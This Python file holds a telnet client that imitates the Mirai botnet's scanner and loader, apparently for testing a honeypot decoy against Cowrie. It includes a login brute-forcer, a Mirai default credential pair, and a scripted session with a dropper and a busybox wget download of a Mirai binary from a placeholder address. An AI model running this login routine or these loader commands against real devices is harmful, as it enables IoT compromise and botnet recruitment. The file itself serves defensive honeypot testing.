"""A telnet client that behaves as Mirai's scanner and loader do, for the decoy's tests and
benchmarks against Cowrie.

Mirai's `consume_iacs` answers only the option commands that open the stream (DO NAWS with
WILL NAWS and an 80x24 window, any other DO with WONT, WILL with DO, anything else echoed),
then treats every later byte as text: options a server sends after its first text are never
answered. The client does the same, so a server that waits for an answer mid-stream hangs
it exactly as it would hang the bot.
"""
import socket
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS = 31
PROMPTS = (b"# ", b"$ ", b"> ")
LOGIN_PROMPTS = (b"ogin: ", b"sername: ", b"ogin:")


class MiraiTelnet:
    def __init__(self, host, port, timeout=10.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.timeout = timeout
        self.text = bytearray()
        self._pending = bytearray()
        self._negotiating = True

    def _feed(self, data):
        b = self._pending + data
        self._pending = bytearray()
        i = 0
        while i < len(b):
            if b[i] != IAC:
                self._negotiating = False
                self.text.append(b[i])
                i += 1
                continue
            if i + 1 >= len(b):
                self._pending = b[i:]
                return
            cmd = b[i + 1]
            if cmd in (DO, DONT, WILL, WONT):
                if i + 2 >= len(b):
                    self._pending = b[i:]
                    return
                opt = b[i + 2]
                if self._negotiating:
                    self.sock.sendall(self._answer(cmd, opt))
                i += 3
            elif cmd == SB:
                end = b.find(bytes([IAC, SE]), i)
                if end < 0:
                    self._pending = b[i:]
                    return
                i = end + 2
            elif cmd == IAC:
                self.text.append(IAC)
                i += 2
            else:
                i += 2

    @staticmethod
    def _answer(cmd, opt):
        if cmd == DO and opt == NAWS:
            return bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE])
        if cmd == DO:
            return bytes([IAC, WONT, opt])
        if cmd == WILL:
            return bytes([IAC, DO, opt])
        return bytes([IAC, cmd, opt])

    def expect(self, *needles, at_end=False):
        """Read until one of `needles` appears in the text; return it. The text up to it is
        consumed. `at_end`: only where the text received so far ends with it, as a prompt
        does (an echoed command line may hold `> ` or `# ` in its middle)."""
        deadline = time.monotonic() + self.timeout
        while True:
            for n in needles:
                k = len(self.text) - len(n) if at_end and self.text.endswith(n) else (
                    -1 if at_end else self.text.find(n))
                if k >= 0:
                    del self.text[: k + len(n)]
                    return n
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"waiting for {needles}; received {bytes(self.text)[-200:]!r}")
            self.sock.settimeout(left)
            data = self.sock.recv(65536)
            if not data:
                raise EOFError(f"closed while waiting for {needles}; received {bytes(self.text)[-200:]!r}")
            self._feed(data)

    def line(self, text):
        self.sock.sendall(text.encode() + b"\r\n")

    def close(self):
        self.sock.close()


def login(t, credentials):
    """Try the pairs in order until a shell prompt appears; return the pair that worked."""
    t.expect(*LOGIN_PROMPTS)
    for user, password in credentials:
        t.line(user)
        t.expect(b"assword:")
        t.line(password)
        got = t.expect(*PROMPTS, *LOGIN_PROMPTS, at_end=True)
        if got in PROMPTS:
            return user, password
    raise AssertionError(f"no pair of {credentials} logged in")


def run_session(host, port, credentials, commands, timeout=10.0):
    """One whole bot session: negotiate, log in, run `commands` (each waits for the prompt;
    `exit` does not), close."""
    t = MiraiTelnet(host, port, timeout)
    try:
        login(t, credentials)
        for c in commands:
            t.line(c)
            if c != "exit":
                t.expect(*PROMPTS, at_end=True)
    finally:
        t.close()


# The scripted session both honeypots are given: one pair Mirai's table does not hold, then
# the DVR pair Mirai was built on; the loader's checks, a dropper written with `echo -ne`
# (its bytes are hashed on both sides) and a download (a TEST-NET address: the decoy never
# fetches it, and Cowrie refuses to contact an address that is not globally routable).
MIRAI_CREDENTIALS = [("root", "hunter2x"), ("root", "xc3511")]
MIRAI_COMMANDS = [
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cd /tmp",
    "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > /tmp/.d",
    "/bin/busybox wget http://203.0.113.7/bins/mirai.arm7 -O /tmp/.m",
    "chmod 777 /tmp/.d",
    "exit",
]
